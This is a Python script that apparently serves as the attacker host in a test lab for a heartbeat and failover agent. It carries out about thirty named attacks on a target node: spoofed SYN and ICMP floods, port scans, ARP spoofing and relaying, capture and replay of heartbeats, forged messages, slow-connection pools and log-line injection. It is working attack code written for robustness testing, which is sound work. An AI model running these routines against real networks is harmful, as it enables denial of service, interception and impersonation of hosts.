#!/usr/bin/env python3
"""The third host of "velarix-lab hostile": carries one attack out in the network it is started in.

The orders are JSON on standard input (Attacker.cpp writes them). What it has done so far goes to
standard output, a line of JSON whenever that has changed; with "problem" in it the attack failed.
It goes on until the attack is over or SIGTERM comes.
"""
import collections
import contextlib
import ctypes
import errno
import json
import os
import random
import re
import select
import signal
import socket
import struct
import sys
import threading
import time

HANDSHAKE = 2.0  # seconds that a handshake is waited for where one matters
BRIEF = 0.25  # the same where thousands are made
HIGHEST_PORT = 65535
# Start times that no agent of a lab has: of forged heartbeats, and of random messages that
# resemble some. By them a log shows which messages are the attacker's.
FORGED_TIME = "20000101000000"
RANDOM_TIME = "20260101000000"
RECEIVED = b"received message: "
PARTNERS = re.compile(rb"received message: /process/[^\n]/[^\n]/(?!%b|%b)\d{14}/" %
                      (FORGED_TIME.encode(), RANDOM_TIME.encode()))


def random_payload(dice):
    """Up to 600 bytes that hold no heartbeat, however they are cut into reads."""
    whole = f"/process/1/1/{RANDOM_TIME}".encode()
    kind = dice.randrange(6)
    if kind == 0:  # five tokens at most: the sixth is what makes a heartbeat of it
        return whole[:1 + dice.randrange(len(whole))]
    if kind == 1:
        prefix = dice.choice(["proces", "Process", " process", "PROCESS", "xprocess"])
        return f"/{prefix}/1/1/{RANDOM_TIME}/1/".encode()
    if kind == 2:
        return b"%s%n%x/" * (1 + dice.randrange(60))
    if kind == 3:
        return b"/" * (1 + dice.randrange(600))
    if kind == 4:
        return b"/" + dice.randbytes(1 + dice.randrange(20)) + f"/1/1/{RANDOM_TIME}/1/".encode()
    return dice.randbytes(1 + dice.randrange(600))


def checksum(packet):
    """Of the internet, of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(packet) // 2}H", packet))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def internet_packet(protocol, source, to, behind):
    """The kernel adds length and checksum."""
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, protocol, 0, socket.inet_aton(source),
                       socket.inet_aton(to)) + behind


def syn_packet(source, source_port, to, port, number):
    """A connection request that is never followed up."""
    def segment(total):
        return struct.pack("!HHIIBBHHH", source_port, port, number * 2654435761 & 0xffffffff, 0, 5 << 4, 2, 1024, total, 0)
    covered = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    return internet_packet(socket.IPPROTO_TCP, source, to, segment(checksum(covered + segment(0))))


def echo_packet(source, to, kind, number):
    """As long as the agent's pings, which have their number in the order of the machine's bytes."""
    def message(total):
        return struct.pack("!BBH", kind, 0, total) + struct.pack("=HH", number, 0) + bytes(40)
    return internet_packet(socket.IPPROTO_ICMP, source, to, message(checksum(message(0))))


def behind_internet_header(frame, protocol, source):
    """What an Ethernet frame holds behind its IPv4 header; nothing for another protocol or sender."""
    if len(frame) < 34 or frame[23] != protocol or frame[26:30] != socket.inet_aton(source):
        return b""
    return frame[14 + (frame[14] & 15) * 4:]


def packet_socket(interface, protocol=0):
    opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(protocol))
    opened.bind((interface, protocol))
    return opened


def captured(pid, interface, seconds):
    """The frames that pass an interface of the process' network, as a tap on the cable sees them."""
    enter = ctypes.CDLL(None, use_errno=True).setns
    with open("/proc/self/ns/net", "rb") as own, open(f"/proc/{pid}/ns/net", "rb") as theirs:
        enter(theirs.fileno(), 0)
        tap = packet_socket(interface, 3)  # ETH_P_ALL
        enter(own.fileno(), 0)
    end = time.monotonic() + seconds
    tap.settimeout(0.1)
    while time.monotonic() < end:
        with contextlib.suppress(TimeoutError):
            yield tap.recv(2048), tap.getsockname()[4]


class Client:
    """One of a pool."""
    connection = None
    open = False  # the handshake is done
    next = 0.0


class Attacker:
    def __init__(self, orders):
        self.orders = orders
        self.count = orders["count"]
        self.at = orders["at"]
        self.port = orders["port"]
        self.payload = orders["payload"].encode("latin-1")
        self.tally = collections.Counter(tries=0, connections=0, messages=0, bytes=0, atOnce=0, open=0, received=0)
        self.lock = threading.Lock()
        self.stopped = False

    def did(self, **more):
        with self.lock:
            self.tally.update(more)

    def report(self, **more):
        with self.lock:
            return json.dumps({**self.tally, "payload": self.payload.decode("latin-1"), **more})

    def log(self):
        with contextlib.suppress(FileNotFoundError), open(self.orders["log"], "rb") as log:
            return log.read()
        return b""

    def until(self, seconds):
        """Whether there is time left, and nobody has stopped it; to be asked again and again."""
        end = time.monotonic() + seconds
        return lambda: not self.stopped and time.monotonic() < end

    # Connections.

    def connect(self, limit, source="", port=None):
        """None when it is refused or not answered."""
        self.did(tries=1)
        try:
            made = socket.create_connection((self.at, port or self.port), limit, (source, 0) if source else None)
        except OSError:
            return None
        made.setblocking(False)
        self.did(connections=port is None or port == self.port)
        return made

    def send(self, connection, payload):
        """Whether all was taken at once."""
        try:
            taken = connection.send(payload, socket.MSG_NOSIGNAL)
        except OSError:
            return False
        self.did(bytes=taken, messages=0 < taken == len(payload))
        return taken == len(payload)

    def flood(self, counted, wanted, visit):
        """Many connections after each other, from several threads, until what is counted comes to
        `wanted`, or as many were tried in vain."""
        in_time = self.until(900)

        def goes_on():
            in_vain = self.tally["connections"] == 0 and self.tally["tries"] >= wanted
            return in_time() and not in_vain and self.tally[counted] < wanted

        def work(number):
            dice = random.Random(self.orders["seed"] * 1000 + number)
            while goes_on():
                connection = self.connect(BRIEF)
                if connection:
                    with connection:
                        visit(connection, dice)
                else:
                    time.sleep(0.005)

        threads = [threading.Thread(target=work, args=(number,)) for number in range(16)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def send_random(self):
        self.flood("messages", self.count, lambda connection, dice: self.send(connection, random_payload(dice)))

    def reset(self):
        def visit(connection, dice):
            self.send(connection, random_payload(dice)[:dice.randrange(40)])
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.flood("connections", max(1, self.count // 10), visit)

    def read_by_target(self):
        log = self.log()
        return log.count(RECEIVED) - len(PARTNERS.findall(log))

    def is_read(self, connection, wanted):
        """Waits for it, unless the target drops the connection unread."""
        watched = select.poll()
        watched.register(connection, select.POLLRDHUP)
        in_time = self.until(15)
        while in_time() and not watched.poll(0):
            time.sleep(0.05)
            if self.read_by_target() >= wanted:
                return True
        return False

    def send_one_by_one(self):
        """On one connection, each when all of the one before has been read: two that are read
        together may make a heartbeat that neither of them is."""
        dice = random.Random(self.orders["seed"])
        wanted = max(1, self.count // 20)
        connection = None
        begin, in_time = self.until(30), self.until(900)
        while wanted > 0 and in_time() and (self.tally["connections"] or begin()):
            if not connection:
                time.sleep(0.02)
                connection = self.connect(HANDSHAKE)
                continue
            payload = random_payload(dice)
            # The receiver's buffer holds 256 bytes.
            read = self.read_by_target() + (len(payload) + 255) // 256
            if self.send(connection, payload) and self.is_read(connection, read):
                wanted -= 1
            else:
                connection.close()
                connection = None

    def keep_connected(self, size=1, first=b"", payload=b"", half_closed=False):
        """A pool of clients that are connected all the time: one that is refused or thrown out
        comes again.
        @param first        sent once by each
        @param payload      sent by each every second
        @param half_closed  goes on with its end open when the node has closed its own; another one comes"""
        clients = [Client() for _ in range(size)]
        left = []
        gone = select.POLLERR | select.POLLHUP | select.POLLRDHUP

        def serve(client, events):
            if not client.connection:
                self.did(tries=1)
                made = socket.socket()
                made.setblocking(False)
                if made.connect_ex((self.at, self.port)) in (0, errno.EINPROGRESS):
                    client.connection = made
                return
            if not client.open and events and not client.connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                client.open = True
                self.did(connections=1)
                if first:
                    self.send(client.connection, first)
            elif events & gone or events and not client.open:
                if client.open and half_closed and len(left) < 400:
                    left.append(client.connection)
                else:
                    client.connection.close()
                client.connection, client.open = None, False
                time.sleep(0.001)
                return
            if client.open and payload and client.next <= time.monotonic():
                client.next = time.monotonic() + 1
                self.send(client.connection, payload)

        while not self.stopped:
            watched = select.poll()
            for client in clients:
                if client.connection:
                    watched.register(client.connection,
                                     select.POLLRDHUP | (select.POLLIN if client.open else select.POLLOUT))
            events = dict(watched.poll(20))
            for client in clients:
                serve(client, events.get(client.connection.fileno(), 0) if client.connection else 0)
            with self.lock:
                for name, number in (("atOnce", sum(client.connection is not None for client in clients)),
                                     ("open", sum(client.open for client in clients))):
                    self.tally[name] = max(self.tally[name], number)

    def times_received(self):
        return self.log().count(RECEIVED + self.payload + b"\n")

    def is_served(self, connection):
        """Says the payload and a farewell. Many a connection is reset unread: the node drops those
        that wait when it has served one. True when the node has answered with its own farewell."""
        with contextlib.suppress(OSError):
            sent = self.send(connection, self.payload)
            connection.shutdown(socket.SHUT_WR)
            connection.settimeout(15)  # a node that starts its programs takes its time
            return sent and connection.recv(1) == b""
        return False

    def send_once(self, source=""):
        """Until the node has logged it as received: one whose answer is lost is said again."""
        before = self.times_received()
        in_time = self.until(45)
        while in_time():
            connection = self.connect(HANDSHAKE, source)
            if connection:
                with connection:
                    if self.is_served(connection) and self.times_received() > before:
                        break
            time.sleep(0.02)
        self.did(received=self.times_received() - before)

    def repeat(self):
        """Four times on one connection, each when the one before has been read: the receiver pauses
        half a second after each."""
        before = self.times_received()
        connection = None
        in_time = self.until(45)
        while in_time() and self.tally["received"] < 4:
            connection = connection or self.connect(HANDSHAKE)
            if connection and not self.send(connection, self.payload):
                connection.close()
                connection = None
            time.sleep(0.6 if connection else 0.02)
            self.did(received=self.times_received() - before - self.tally["received"])

    def pretend(self):
        while not self.stopped:
            connection = self.connect(BRIEF)
            if connection:
                with connection:
                    self.send(connection, f"/process/1/1/{FORGED_TIME}/0/".encode())
                    time.sleep(0.4)
            else:
                time.sleep(0.4)

    def burst(self):
        """16 KiB and the farewell at once: 64 messages of 256 bytes for the receiver."""
        in_time = self.until(45)
        while in_time() and not self.tally["received"]:
            connection = self.connect(HANDSHAKE)
            if connection:
                with connection:
                    sent = self.send(connection, b"~" * 16384)
                look = self.until(2)
                while sent and look() and not self.tally["received"]:
                    time.sleep(0.05)
                    self.did(received=self.log().count(RECEIVED + b"~" * 256))
            time.sleep(0.02)

    def scan_by_connect(self):
        for port in range(1, HIGHEST_PORT + 1):
            if self.stopped:
                break
            connection = self.connect(BRIEF, port=port)
            if connection:
                connection.close()
        # The receiver closes its port between two heartbeats: a scanner looks again.
        for _ in range(100):
            if self.stopped or self.tally["connections"]:
                break
            self.connect(BRIEF)
            time.sleep(0.02)

    # Packets made by hand.

    def raw_sender(self):
        opened = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

        def send(packet):
            with contextlib.suppress(OSError):
                opened.sendto(packet, (self.at, 0))
            self.did(tries=1)
        return send

    def request(self, send, source, source_port, port):
        send(syn_packet(source, source_port, self.at, port, self.tally["tries"]))

    def syn_flood(self):
        send = self.raw_sender()
        dice = random.Random(self.orders["seed"])
        while not self.stopped:
            nobody = f"198.51.100.{128 + dice.randrange(120)}"
            for _ in range(20):
                self.request(send, nobody, 1024 + dice.randrange(60000), self.port)
            time.sleep(0.02)

    def scan_by_syn(self):
        send = self.raw_sender()
        for port in range(1, HIGHEST_PORT + 1):
            if self.stopped:
                break
            self.request(send, self.orders["own"], 41000 + port % 20000, port)
            if port % 100 == 0:
                time.sleep(0.01)

    def request_blindly(self):
        """The answers go to the partner, by the node's other interface."""
        send = self.raw_sender()
        dice = random.Random(self.orders["seed"])
        while not self.stopped:
            self.request(send, self.orders["partner"], 1024 + dice.randrange(60000), self.port)
            time.sleep(0.1)

    def flood_icmp(self, kind):
        """In a millisecond more than the ten pings of a probe, each of which is answered after two."""
        sources = {"gateway": [self.orders["gateway"]],
                   "partner": [self.orders["partnerAt"], self.orders["virtual"]]}[self.orders["detail"]]
        send = self.raw_sender()
        number = 0  # of one agent in 65536
        while not self.stopped:
            for _ in range(20):
                for source in sources:
                    number = (number + 1) & 0xffff
                    send(echo_packet(source, self.at, kind, number))
            time.sleep(0.001)

    def answer_for_partner(self):
        send = self.raw_sender()
        while not self.stopped:
            send(echo_packet(self.orders["partnerAt"], self.at, 0, int(self.payload)))
            time.sleep(0.01)

    # ARP: an answer that was not asked for leads an address to this host's interface.

    def arp_answer(self, network, victim, address):
        """@return what sends it, on which socket"""
        interface = self.orders["interfaces"][network]
        asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        in_time = self.until(5)
        found = None
        while not found:
            if not in_time():
                raise OSError(f"no host answers for {victim}")
            asking.sendto(b"", (victim, 9))  # makes the kernel ask for the address
            time.sleep(0.02)
            with open("/proc/self/net/arp", encoding="ascii") as cache:
                found = re.search(rf"^{re.escape(victim)} +0x1 +0x[2-9a-f] +(\S+).* {interface}$", cache.read(), re.M)
        theirs = bytes.fromhex(found[1].replace(":", ""))
        sender = packet_socket(interface)
        own = sender.getsockname()[4]
        return sender, struct.pack("!6s6sHHHBBH6s4s6s4s", theirs, own, 0x806, 1, 0x800, 6, 4, 2, own,
                                   socket.inet_aton(address), theirs, socket.inet_aton(victim))

    @contextlib.contextmanager
    def spoofing(self, network, victim, address):
        """The victim takes this host for the address; told twenty times a second."""
        sender, answer = self.arp_answer(network, self.orders[victim], self.orders[address])
        ended = threading.Event()

        def tell():
            while not ended.wait(0.05):
                sender.send(answer)
                self.did(tries=1)

        thread = threading.Thread(target=tell)
        thread.start()
        try:
            yield
        finally:
            ended.set()
            thread.join()

    def until_stopped(self):
        while not self.stopped:
            time.sleep(0.02)

    def spoof(self, network, victim, address):
        with self.spoofing(network, victim, address):
            self.until_stopped()

    def relay(self):
        with self.spoofing("communication", "target", "partner"):
            self.spoof("communication", "partner", "target")

    def spoof_and_send(self):
        with self.spoofing("communication", "target", "partner"):
            self.send_once(self.orders["partner"])
            self.until_stopped()

    # What is captured first.

    def capture(self, protocol, wanted):
        """What `wanted` makes of the first packet of the captured node that it knows; the orders may
        tell it: what can be captured of a tunnel shows neither heartbeats nor pings."""
        for frame, _ in [] if self.payload else captured(
                self.orders["capturePid"], self.orders["interfaces"]["communication"], 15):
            self.payload = wanted(behind_internet_header(frame, protocol, self.orders["captured"]))
            if self.payload:
                break
        if not self.payload:
            raise OSError(f"nothing of {self.orders['captured']} was captured")

    def replay(self):
        def heartbeat(segment):
            text = segment[(segment[12] >> 4) * 4:] if len(segment) >= 20 else b""
            return text if text.startswith(b"/process/") else b""
        self.capture(socket.IPPROTO_TCP, heartbeat)
        self.send_once()

    def answer_pings(self):
        """A heartbeat makes a node ping; so does every pass of a standby's receiver."""
        self.capture(socket.IPPROTO_ICMP, lambda message: str(
            int.from_bytes(message[4:6], sys.byteorder)).encode() if len(message) >= 8 and message[0] == 8 else b"")
        self.answer_for_partner()

    def replay_recorded(self):
        """Whatever has reached the target in a few seconds: heartbeats, answers to pings, packets of the tunnel."""
        interface = self.orders["interfaces"]["communication"]
        frames = [bytearray(frame) for frame, own in captured(self.orders["capturePid"], interface, 3)
                  if frame[:6] == own and frame[12:14] == b"\x08\x00"]
        if not frames:
            raise OSError("there is nothing to replay")
        sender = packet_socket(interface)
        for frame in frames:
            # The sender's hardware address is another one: the bridge goes on knowing where it is.
            frame[11] = (frame[11] + 64) & 0xff
        while not self.stopped:
            for frame in frames:
                sender.send(frame)
                self.did(tries=1)
            time.sleep(0.05)

    def forge_lines(self):
        """A line feed, and what the log would show of a service address that is silent: a head with
        this moment and a process that no agent is."""
        now = time.strftime("%Y-%m-%d %H:%M:%S")
        self.payload = f"\n{now}.0 [1:3][CHeartReciver:516] <D> my service IP is not OK (2)".encode()
        self.send_once()


# By the names of lab/tables/attacks.toml.
ATTACKS = {
    "random": Attacker.send_random,
    "random-one-by-one": Attacker.send_one_by_one,
    "client-pool": lambda attacker: attacker.keep_connected(200),
    "silent": Attacker.keep_connected,
    "slow": lambda attacker: attacker.keep_connected(20, payload=b"~"),
    "hold-connection": lambda attacker: attacker.keep_connected(payload=b"/held/"),
    "half-closed": lambda attacker: attacker.keep_connected(first=b"/staying/", half_closed=True),
    "burst": Attacker.burst,
    "resets": Attacker.reset,
    "syn-flood": Attacker.syn_flood,
    "syn-flood-no-cookies": Attacker.syn_flood,
    "scan-connect": Attacker.scan_by_connect,
    "scan-syn": Attacker.scan_by_syn,
    "replay": Attacker.replay,
    "forged": Attacker.send_once,
    "forged-service": lambda attacker: attacker.send_once(attacker.orders["ownService"]),
    "repeated": Attacker.repeat,
    "line-feeds": Attacker.forge_lines,
    "false-master": Attacker.pretend,
    "blind-syn": Attacker.request_blindly,
    "spoofed-partner": Attacker.spoof_and_send,
    "impersonate-partner": lambda attacker: attacker.spoof("communication", "target", "partner"),
    "arp-cut-partner": lambda attacker: attacker.spoof("communication", "target", "partner"),
    "relay": Attacker.relay,
    "recorded": Attacker.replay_recorded,
    "arp-cut-gateway": lambda attacker: attacker.spoof("communication", "target", "gateway"),
    "arp-cut-node": lambda attacker: attacker.spoof("communication", "gateway", "target"),
    "arp-claim-service": lambda attacker: attacker.spoof("service", "client", "virtual"),
    "impersonate-service": lambda attacker: attacker.spoof("service", "targetService", "virtual"),
    "icmp-wrong-id": lambda attacker: attacker.flood_icmp(0),
    "icmp-requests": lambda attacker: attacker.flood_icmp(8),
    "icmp-known-id": Attacker.answer_pings,
}


def tell_changes(attacker, ended):
    last = ""
    while not ended.wait(0.05):
        now = attacker.report()
        if now != last:
            print(now, flush=True)
            last = now


def main():
    attacker = Attacker(json.load(sys.stdin))

    def stop(*_):
        attacker.stopped = True

    signal.signal(signal.SIGTERM, stop)
    ended = threading.Event()
    teller = threading.Thread(target=tell_changes, args=(attacker, ended))
    teller.start()
    problem = {}
    try:
        ATTACKS[attacker.orders["attack"]](attacker)
    except Exception as error:  # whatever it is, the lab has to hear of it
        problem = {"problem": repr(error)}
    ended.set()
    teller.join()
    print(attacker.report(**problem), flush=True)
    # A connection attempt under way waits for nobody.
    os._exit(1 if problem else 0)


if __name__ == "__main__":
    main()
